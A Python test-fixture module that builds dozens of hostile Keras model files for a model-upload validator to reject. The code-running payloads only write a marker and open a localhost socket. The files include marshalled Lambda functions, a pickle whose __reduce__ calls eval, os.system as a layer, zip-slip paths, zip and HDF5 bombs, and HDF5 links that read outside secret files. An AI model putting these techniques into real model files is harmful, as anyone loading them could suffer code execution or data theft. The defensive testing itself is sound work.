"""Makers of hostile model files. None needs Keras; what would run code writes a marker and opens a socket when it does.

Each maker gets an `Attack` and gives the path of the file to upload.
"""

import base64
import io
import json
import marshal
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Config = dict[str, Any]


@dataclass(frozen=True)
class Attack:
    """Where an attack is made.

    Attributes:
        folder: where the file goes.
        marker: the file that hostile code would write.
        port: where it would connect to on this machine.
        outside: a folder with a file `secret.txt` and `secret.h5`, which must neither be read into a model nor change.
    """

    folder: Path
    marker: Path
    port: int
    outside: Path

    @property
    def source(self) -> str:
        """A program that leaves traces."""
        return (
            f"__import__('pathlib').Path({str(self.marker)!r}).write_text('ran') or "
            f"__import__('socket').create_connection(('127.0.0.1', {self.port}))"
        )

    @property
    def code(self) -> str:
        """A marshalled function that leaves traces, as Keras stores a Lambda."""
        function = eval(f"lambda x: ({self.source}) and x")
        return base64.b64encode(marshal.dumps(function.__code__)).decode()

    @property
    def function(self) -> Config:
        return {"class_name": "__lambda__", "config": {"code": self.code, "defaults": None, "closure": None}}


Maker = Callable[[Attack], Path]
HOSTILE: dict[str, tuple[Maker, str]] = {}
"""By name: the maker, and words that the refusal must hold."""


def hostile(reason: str) -> Callable[[Maker], Maker]:
    def add(maker: Maker) -> Maker:
        HOSTILE[maker.__name__] = (maker, reason)
        return maker

    return add


# --- an honest model to start from ------------------------------------------------------------------------------------


def layer(class_name: str, name: str, on: str | list[str] | None, **config: Any) -> Config:
    """A layer as Keras 3 writes it, called on the layer (or layers) `on`."""

    def tensor(source: str) -> Config:
        return {
            "class_name": "__keras_tensor__",
            "config": {"shape": [None, 8, 8, 3], "dtype": "float32", "keras_history": [source, 0, 0]},
        }

    argument = [tensor(source) for source in on] if isinstance(on, list) else tensor(on) if on else None
    nodes = [] if on is None else [{"args": [argument], "kwargs": {}}]
    return {
        "module": "keras.layers",
        "class_name": class_name,
        "config": {"name": name, **config},
        "name": name,
        "registered_name": None,
        "inbound_nodes": nodes,
    }


def network(*inner: Config, last: str = "input", compile_config: Config | None = None, **dense: Any) -> Config:
    """A Functional model: input, the inner layers, Flatten, Dense; the weights of `write_weights` belong to it."""
    layers = [
        layer("InputLayer", "input", None, batch_shape=[None, 8, 8, 3], dtype="float32"),
        *inner,
        layer("Flatten", "flatten", last),
        layer("Dense", "dense", "flatten", **{"units": 3, "activation": "softmax", **dense}),
    ]
    config = {
        "name": "net",
        "trainable": True,
        "layers": layers,
        "input_layers": [["input", 0, 0]],
        "output_layers": [["dense", 0, 0]],
    }
    tree = {"module": "keras", "class_name": "Functional", "config": config, "registered_name": "Functional"}
    return tree | ({"compile_config": compile_config} if compile_config else {})


def weights_file(change: Callable[[h5py.File], None] | None = None) -> bytes:
    """Keras 3's weights of `network()`."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file["layers/dense/vars/0"] = np.random.default_rng(0).normal(size=(192, 3)).astype(np.float32)
        file["layers/dense/vars/1"] = np.zeros(3, np.float32)
        if change is not None:
            change(file)
    return buffer.getvalue()


def keras_file(attack: Attack, tree: Config | str, weights: bytes | None = None) -> Path:
    """A .keras file of a description and weights."""
    path = attack.folder / "model.keras"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        archive.writestr("config.json", tree if isinstance(tree, str) else json.dumps(tree))
        archive.writestr("model.weights.h5", weights_file() if weights is None else weights)
    return path


def legacy_file(attack: Attack, tree: Config, training: Config | None = None) -> Path:
    """An .h5 file in Keras 2's layout."""
    path = attack.folder / "model.h5"
    with h5py.File(path, "w") as file:
        file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
        file.attrs["model_config"] = json.dumps(tree)
        if training is not None:
            file.attrs["training_config"] = json.dumps(training)
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = [b"dense"]
        dense = group.create_group("dense")
        dense.attrs["weight_names"] = [b"dense/kernel:0", b"dense/bias:0"]
        dense["dense/kernel:0"] = np.ones((192, 3), np.float32)
        dense["dense/bias:0"] = np.zeros(3, np.float32)
    return path


def honest(attack: Attack) -> Path:
    """The model that all others are made from; it must be taken."""
    return keras_file(attack, network())


# --- code -------------------------------------------------------------------------------------------------------------


@hostile("Lambda")
def lambda_at_top(attack: Attack) -> Path:
    return keras_file(attack, network(layer("Lambda", "evil", "input", function=attack.function), last="evil"))


@hostile("Lambda")
def lambda_in_a_submodel(attack: Attack) -> Path:
    inner = network(layer("Lambda", "evil", "input", function=attack.function), last="evil")
    return keras_file(attack, network({**layer("Functional", "sub", "input"), "config": inner["config"]}, last="sub"))


@hostile("TimeDistributed")
def lambda_in_a_wrapper(attack: Attack) -> Path:
    inner = layer("Lambda", "evil", None, function=attack.function)
    return keras_file(attack, network(layer("TimeDistributed", "wrapper", "input", layer=inner), last="wrapper"))


@hostile("Lambda")
def lambda_hidden_in_an_argument(attack: Attack) -> Path:
    return keras_file(attack, network(kernel_initializer=layer("Lambda", "evil", None, function=attack.function)))


@hostile("__lambda__")
def lambda_in_the_loss(attack: Attack) -> Path:
    return keras_file(attack, network(compile_config={"optimizer": "adam", "loss": attack.function}))


@hostile("__lambda__")
def lambda_in_a_metric(attack: Attack) -> Path:
    metric = {"class_name": "MeanMetricWrapper", "config": {"name": "m", "fn": attack.function}}
    return keras_file(attack, network(compile_config={"metrics": [metric]}))


@hostile("__lambda__")
def lambda_in_an_initializer(attack: Attack) -> Path:
    return keras_file(attack, network(bias_initializer=attack.function))


@hostile("__lambda__")
def lambda_in_an_activation(attack: Attack) -> Path:
    return keras_file(attack, network(activation=attack.function))


@hostile("__lambda__")
def lambda_in_a_regularizer(attack: Attack) -> Path:
    return keras_file(attack, network(kernel_regularizer=attack.function))


@hostile("__lambda__")
def lambda_in_a_build_config(attack: Attack) -> Path:
    tree = network()
    tree["config"]["layers"][2]["build_config"] = {"input_shape": attack.function}
    return keras_file(attack, tree)


@hostile("Lambda")
def lambda_in_a_legacy_file(attack: Attack) -> Path:
    code = base64.b64encode(marshal.dumps((lambda x: x).__code__)).decode()
    evil = layer("Lambda", "evil", "input", function=[code, None, None], function_type="lambda", module="os")
    return legacy_file(attack, network(evil, last="evil"))


@hostile("__lambda__")
def lambda_in_a_legacy_loss(attack: Attack) -> Path:
    return legacy_file(attack, network(), {"loss": attack.function, "optimizer_config": None})


@hostile("'os'")
def foreign_module(attack: Attack) -> Path:
    tree = network()
    tree["config"]["layers"][1] |= {"module": "os", "class_name": "Flatten"}
    return keras_file(attack, tree)


@hostile("system")
def foreign_function_as_layer(attack: Attack) -> Path:
    evil = {**layer("system", "evil", "input", command=f"touch {attack.marker}"), "module": "os"}
    return keras_file(attack, network(evil, last="evil"))


@hostile("eval")
def builtin_as_object(attack: Attack) -> Path:
    evil = {"module": "builtins", "class_name": "eval", "config": attack.source, "registered_name": None}
    return keras_file(attack, network(kernel_constraint=evil))


@hostile("function")
def function_as_activation(attack: Attack) -> Path:
    evil = {"module": "builtins", "class_name": "function", "config": "subprocess.run", "registered_name": "function"}
    return keras_file(attack, network(activation=evil))


@hostile("'Custom>Dense'")
def registered_name_of_another(attack: Attack) -> Path:
    tree = network()
    tree["config"]["layers"][-1]["registered_name"] = "Custom>Dense"
    return keras_file(attack, tree)


@hostile("MyModel")
def subclassed_model(attack: Attack) -> Path:
    return keras_file(attack, {**network(), "class_name": "MyModel", "module": "evil", "registered_name": "MyModel"})


@hostile("download")
def keras_function_of_utils(attack: Attack) -> Path:
    """The deny-list of Keras' loader once let any name under keras through, such as its downloader."""
    evil = {
        "module": "keras.utils",
        "class_name": "download",
        "registered_name": None,
        "config": {"origin": f"http://127.0.0.1:{attack.port}/", "fname": str(attack.marker)},
    }
    return keras_file(attack, network(bias_constraint=evil))


@hostile("TFSMLayer")
def saved_model_layer(attack: Attack) -> Path:
    return keras_file(attack, network(layer("TFSMLayer", "evil", "input", filepath=str(attack.outside)), last="evil"))


@hostile("TorchModuleWrapper")
def pickled_torch_module(attack: Attack) -> Path:
    class Evil:
        def __reduce__(self) -> tuple[Any, ...]:
            return eval, (attack.source,)

    module = base64.b64encode(pickle.dumps(Evil())).decode()
    return keras_file(attack, network(layer("TorchModuleWrapper", "evil", "input", module=module), last="evil"))


@hostile("JaxLayer")
def jax_function(attack: Attack) -> Path:
    return keras_file(attack, network(layer("JaxLayer", "evil", "input", call_fn=attack.function), last="evil"))


@hostile("begins with")
def bare_pickle(attack: Attack) -> Path:
    path = attack.folder / "model.h5"
    path.write_bytes(pickle.dumps({"weights": [1, 2, 3]}, protocol=5))
    return path


# --- what lies outside ------------------------------------------------------------------------------------------------


@hostile("StringLookup")
def vocabulary_file(attack: Attack) -> Path:
    vocabulary = str(attack.outside / "secret.txt")
    return keras_file(attack, network(layer("StringLookup", "evil", "input", vocabulary=vocabulary), last="evil"))


@hostile("TextVectorization")
def vocabulary_address(attack: Attack) -> Path:
    address = f"http://127.0.0.1:{attack.port}/vocabulary.txt"
    return keras_file(attack, network(layer("TextVectorization", "evil", "input", vocabulary=address), last="evil"))


@hostile("vocabulary")
def vocabulary_of_a_known_layer(attack: Attack) -> Path:
    return keras_file(attack, network(vocabulary=str(attack.outside / "secret.txt")))


@hostile("assets/vocabulary.txt")
def files_beside_the_network(attack: Attack) -> Path:
    path = honest(attack)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("assets/vocabulary.txt", "secret")
    return path


# --- archives ---------------------------------------------------------------------------------------------------------


def _with_member(attack: Attack, name: str | zipfile.ZipInfo, content: bytes = b"out") -> Path:
    path = honest(attack)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, content)
    return path


@hostile("leads outside")
def zip_slip_up(attack: Attack) -> Path:
    return _with_member(attack, "../../marker.txt")


@hostile("leads outside")
def zip_slip_hidden_in_the_middle(attack: Attack) -> Path:
    return _with_member(attack, "a/b/../../../marker.txt")


@hostile("leads outside")
def zip_slip_absolute(attack: Attack) -> Path:
    return _with_member(attack, str(attack.marker))


@hostile("leads outside")
def zip_slip_backslashes(attack: Attack) -> Path:
    return _with_member(attack, zipfile.ZipInfo("..\\..\\marker.txt"))


@hostile("leads outside")
def zip_slip_drive(attack: Attack) -> Path:
    return _with_member(attack, "C:/marker.txt")


@hostile("a link")
def zip_with_a_link(attack: Attack) -> Path:
    info = zipfile.ZipInfo("model.weights.link")
    info.external_attr = 0o120777 << 16
    return _with_member(attack, info, str(attack.outside).encode())


@hostile("a device or pipe")
def zip_with_a_pipe(attack: Attack) -> Path:
    info = zipfile.ZipInfo("pipe")
    info.external_attr = 0o010644 << 16
    return _with_member(attack, info)


@hostile("twice")
def zip_with_a_file_twice(attack: Attack) -> Path:
    path = honest(attack)
    with zipfile.ZipFile(path, "a") as archive, warnings.catch_warnings(action="ignore"):
        archive.writestr("config.json", json.dumps(network(layer("Lambda", "evil", "input"), last="evil")))
    return path


@hostile("encrypted")
def zip_encrypted(attack: Attack) -> Path:
    path = honest(attack)
    content = bytearray(path.read_bytes())
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(magic)
        content[place + offset] |= 1
    path.write_bytes(bytes(content))
    return path


@hostile("at most 64 files")
def zip_of_many_files(attack: Attack) -> Path:
    path = attack.folder / "model.keras"
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(20_000):
            archive.writestr(f"{number}", b"")
    return path


def _bomb(path: Path, name: str, num_gib: int) -> Path:
    """A zip of zeros, made by repeating one packed block."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(2**26)) + packer.flush(zlib.Z_FULL_FLUSH)
    data = block * (16 * num_gib) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    sizes = struct.pack("<HHIIII", 0, 33, 0, len(data), min(num_gib * 2**30, 2**32 - 1), len(name))[:-2]
    head = struct.pack("<HHH", 20, 0, 8) + sizes
    entry = b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHHII", 0, 0, 0, 0, 0, 0) + name.encode()
    start = b"PK\x03\x04" + head + struct.pack("<H", 0) + name.encode() + data
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry), len(start), 0)
    path.write_bytes(start + entry + end)
    return path


@hostile("at most")
def zip_bomb(attack: Attack) -> Path:
    return _bomb(attack.folder / "model.keras", "config.json", 3)


@hostile("200 times")
def zip_bomb_of_weights(attack: Attack) -> Path:
    return _bomb(attack.folder / "model.zip", "model.h5", 3)


@hostile("")
def zip_bomb_that_lies(attack: Attack) -> Path:
    path = _bomb(attack.folder / "model.keras", "config.json", 3)
    content = path.read_bytes()
    path.write_bytes(content.replace(struct.pack("<I", 3 * 2**30), struct.pack("<I", 100)))
    return path


@hostile("holds")
def zip_in_a_zip_in_a_zip(attack: Attack) -> Path:
    inner = honest(attack)
    for name in ("one.zip", "two.zip"):
        with zipfile.ZipFile(attack.folder / name, "w") as archive:
            archive.write(inner, inner.name)
        inner = attack.folder / name
    return inner


@hostile("as its name says")
def zip_in_a_zip_under_another_name(attack: Attack) -> Path:
    with zipfile.ZipFile(attack.folder / "outer.zip", "w") as archive:
        archive.write(honest(attack), "model.h5")
    return attack.folder / "outer.zip"


@hostile("one model")
def zip_of_two_models(attack: Attack) -> Path:
    with zipfile.ZipFile(attack.folder / "outer.zip", "w") as archive:
        for name in ("a.keras", "b.keras"):
            archive.write(honest(attack), name)
    return attack.folder / "outer.zip"


@hostile("begins with")
def tar_archive(attack: Attack) -> Path:
    path = attack.folder / "model.tar"
    with tarfile.open(path, "w") as archive:
        archive.add(honest(attack), "../model.keras")
    return path


# --- damage -----------------------------------------------------------------------------------------------------------


@hostile("cut off")
def truncated_keras(attack: Attack) -> Path:
    path = honest(attack)
    path.write_bytes(path.read_bytes()[:-200])
    return path


@hostile("whole")
def truncated_h5(attack: Attack) -> Path:
    path = legacy_file(attack, network())
    path.write_bytes(path.read_bytes()[:3000])
    return path


@hostile("")
def flipped_h5(attack: Attack) -> Path:
    path = legacy_file(attack, network())
    content = bytearray(path.read_bytes())
    content[96:1600:7] = b"\xff" * len(content[96:1600:7])
    path.write_bytes(bytes(content))
    return path


@hostile("begins with")
def random_bytes(attack: Attack) -> Path:
    path = attack.folder / "model.keras"
    path.write_bytes(np.random.default_rng(0).bytes(100_000))
    return path


@hostile("whole")
def random_bytes_after_the_magic(attack: Attack) -> Path:
    path = attack.folder / "model.h5"
    path.write_bytes(b"\x89HDF\r\n\x1a\n" + np.random.default_rng(0).bytes(100_000))
    return path


@hostile("begins with")
def empty_file(attack: Attack) -> Path:
    path = attack.folder / "model.keras"
    path.write_bytes(b"")
    return path


# --- HDF5 -------------------------------------------------------------------------------------------------------------


def _with_kernel(attack: Attack, change: Callable[[h5py.File], None]) -> Path:
    """The honest model whose kernel is replaced."""

    def replace(file: h5py.File) -> None:
        del file["layers/dense/vars/0"]
        change(file)

    return keras_file(attack, network(), weights_file(replace))


KERNEL = "layers/dense/vars/0"


@hostile("a link to another file")
def h5_external_link(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file[KERNEL] = h5py.ExternalLink(str(attack.outside / "secret.h5"), "/secret")

    return _with_kernel(attack, change)


@hostile("a soft link")
def h5_soft_link(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file["elsewhere"] = np.ones((192, 3), np.float32)
        file[KERNEL] = h5py.SoftLink("/elsewhere")

    return _with_kernel(attack, change)


@hostile("in another file")
def h5_external_storage(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file.create_dataset(KERNEL, (192, 3), np.float32, external=[(str(attack.outside / "secret.txt"), 0, 2304)])

    return _with_kernel(attack, change)


@hostile("virtual")
def h5_virtual_array(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        layout = h5py.VirtualLayout((192, 3), np.float32)
        layout[:] = h5py.VirtualSource(str(attack.outside / "secret.h5"), "secret", (192, 3))
        file.create_virtual_dataset(KERNEL, layout)

    return _with_kernel(attack, change)


@hostile("are there")
def h5_shape_bomb(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file.create_dataset(KERNEL, (10**6, 10**6), np.float32, chunks=(1024, 1024))

    return _with_kernel(attack, change)


@hostile("are there")
def h5_packed_bomb(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        array = file.create_dataset(KERNEL, (256 * 2**20,), np.float32, chunks=(2**20,), compression="gzip")
        chunk = zlib.compress(bytes(2**22), 9)
        for number in range(256):
            array.id.write_direct_chunk((number * 2**20,), chunk)

    return _with_kernel(attack, change)


@hostile("reference")
def h5_object_references(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file.create_dataset(KERNEL, (192, 3), h5py.ref_dtype)

    return _with_kernel(attack, change)


@hostile("of the type")
def h5_texts(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file.create_dataset(KERNEL, (192, 3), h5py.string_dtype())

    return _with_kernel(attack, change)


@hostile("of the type")
def h5_opaque_objects(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file.create_dataset(KERNEL, data=np.void(pickle.dumps(np.ones(3))))

    return _with_kernel(attack, change)


@hostile("compound")
def h5_records(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file.create_dataset(KERNEL, (192, 3), np.dtype([("a", "f4"), ("b", "i4")]))

    return _with_kernel(attack, change)


@hostile("neither a group nor an array")
def h5_named_type(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file[KERNEL] = np.dtype("f4")

    return _with_kernel(attack, change)


@hostile("two ways")
def h5_circle(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file["layers/dense/again"] = file["layers"]

    return keras_file(attack, network(), weights_file(change))


@hostile("objects")
def h5_of_many_groups(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        group = file.create_group("many", track_order=False)
        for number in range(100_001):
            group.id.links.create_soft(str(number).encode(), b"/")

    return keras_file(attack, network(), weights_file(change))


@hostile("nested deeper")
def h5_of_deep_groups(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file.create_group("/".join("d" * 500))

    return keras_file(attack, network(), weights_file(change))


@hostile("filter")
def h5_foreign_filter(attack: Attack) -> Path:
    """A filter of an unknown number makes HDF5 look for a plug-in, which is a program, in a folder."""

    def change(file: h5py.File) -> None:
        created = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        created.set_chunk((192, 3))
        created.set_filter(31_999, h5py.h5z.FLAG_OPTIONAL, ())
        space = h5py.h5s.create_simple((192, 3))
        h5py.h5d.create(file["layers/dense/vars"].id, b"0", h5py.h5t.IEEE_F32LE, space, created)

    return _with_kernel(attack, change)


@hostile("whole")
def h5_behind_a_false_beginning(attack: Attack) -> Path:
    path = attack.folder / "model.h5"
    with h5py.File(path, "w", userblock_size=512) as file:
        file[KERNEL] = np.ones((192, 3), np.float32)
    content = path.read_bytes()
    path.write_bytes(b"\x89HDF\r\n\x1a\n" + content[8:])
    return path


@hostile("not text")
def h5_description_of_objects(attack: Attack) -> Path:
    path = legacy_file(attack, network())
    with h5py.File(path, "a") as file:
        del file.attrs["model_config"]
        file.attrs.create("model_config", file.ref, dtype=h5py.ref_dtype)
    return path


@hostile("NaN")
def weights_of_nan(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file[KERNEL] = np.full((192, 3), np.nan, np.float32)

    return _with_kernel(attack, change)


@hostile("infinity")
def weights_too_large_for_float32(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file[KERNEL] = np.full((192, 3), 1e300)

    return _with_kernel(attack, change)


@hostile("of the shape")
def weights_of_another_shape(attack: Attack) -> Path:
    def change(file: h5py.File) -> None:
        file[KERNEL] = np.ones((192, 4), np.float32)

    return _with_kernel(attack, change)


@hostile("holds no layers/dense/vars/0")
def weights_missing(attack: Attack) -> Path:
    return _with_kernel(attack, lambda file: None)


# --- size -------------------------------------------------------------------------------------------------------------


@hostile("from 1 to")
def dense_of_a_billion(attack: Attack) -> Path:
    return keras_file(attack, network(units=10**9))


@hostile("parameters")
def dense_on_dense(attack: Attack) -> Path:
    inner = [layer("Dense", "wide", "input", units=2**20), layer("Dense", "on", "wide", units=2**20)]
    return keras_file(attack, network(*inner, last="on"))


@hostile("values between two layers")
def picture_of_a_terapixel(attack: Attack) -> Path:
    inner = [layer("UpSampling2D", f"up{n}", f"up{n - 1}" if n else "input", size=[64, 64]) for n in range(4)]
    return keras_file(attack, network(*inner, last="up3"))


@hostile("multiplications")
def work_without_end(attack: Attack) -> Path:
    inner = [layer("UpSampling2D", "up", "input", size=[64, 64])]
    inner += [
        layer("Conv2D", f"c{n}", f"c{n - 1}" if n else "up", filters=256, kernel_size=[31, 31], padding="same")
        for n in range(4)
    ]
    return keras_file(attack, network(*inner, last="c3"))


@hostile("5,000 layers")
def hundred_thousand_layers(attack: Attack) -> Path:
    nodes = [
        {
            "class_name": "Identity",
            "config": {},
            "name": f"i{n}",
            "inbound_nodes": [[[f"i{n - 1}" if n else "input", 0, 0, {}]]],
        }
        for n in range(100_000)
    ]
    return keras_file(attack, json.dumps(network(*nodes, last="i99999"), separators=(",", ":")))


@hostile("at most")
def description_of_forty_megabytes(attack: Attack) -> Path:
    return keras_file(attack, json.dumps(network())[:-1] + ', "x": "' + "x" * (40 * 2**20) + '"}')


@hostile("deeper")
def json_of_5000_levels(attack: Attack) -> Path:
    return keras_file(attack, json.dumps(network())[:-1] + ', "x": ' + "[" * 5000 + "]" * 5000 + "}")


@hostile("deeper")
def json_of_a_million_levels(attack: Attack) -> Path:
    return keras_file(attack, '{"x":' * 10**6 + "1" + "}" * 10**6)


@hostile("nested deeper")
def models_within_models(attack: Attack) -> Path:
    tree = network()
    for number in range(12):
        inner = {**layer("Functional", f"sub{number}", "input"), "config": tree["config"]}
        tree = network(inner, last=f"sub{number}")
    return keras_file(attack, tree)


@hostile("twice in one object")
def json_with_a_key_twice(attack: Attack) -> Path:
    return keras_file(attack, json.dumps(network())[:-1] + ', "class_name": "Lambda"}')


@hostile("NaN")
def json_with_nan(attack: Attack) -> Path:
    return keras_file(attack, json.dumps(network(layer("Rescaling", "r", "input", scale=float("nan")), last="r")))


@hostile("64 bits")
def json_with_a_huge_number(attack: Attack) -> Path:
    return keras_file(attack, network(units=10**400))


@hostile("JSON")
def description_is_no_json(attack: Attack) -> Path:
    return keras_file(attack, "{" * 10)


# --- networks that cannot be ------------------------------------------------------------------------------------------


@hostile("circle")
def layers_in_a_circle(attack: Attack) -> Path:
    return keras_file(attack, network(layer("Identity", "a", "b"), layer("Identity", "b", "a"), last="b"))


@hostile("which there is not")
def layer_on_nothing(attack: Attack) -> Path:
    return keras_file(attack, network(layer("Identity", "a", "nowhere"), last="a"))


@hostile("printable")
def layer_name_that_is_a_path(attack: Attack) -> Path:
    return keras_file(attack, network(layer("Identity", "../../../marker", "input"), last="../../../marker"))


@hostile("2 outputs")
def two_outputs(attack: Attack) -> Path:
    tree = network()
    tree["config"]["output_layers"] = [["dense", 0, 0], ["flatten", 0, 0]]
    return keras_file(attack, tree)


@hostile("photos")
def takes_text(attack: Attack) -> Path:
    tree = network()
    tree["config"]["layers"][0]["config"]["batch_shape"] = [None, 128]
    return keras_file(attack, tree)


@hostile("does not know")
def argument_of_its_own(attack: Attack) -> Path:
    return keras_file(attack, network(call_on_load=attack.source))


@hostile("of weights only")
def weights_without_a_network(attack: Attack) -> Path:
    path = attack.folder / "model.weights.h5"
    path.write_bytes(weights_file())
    return path
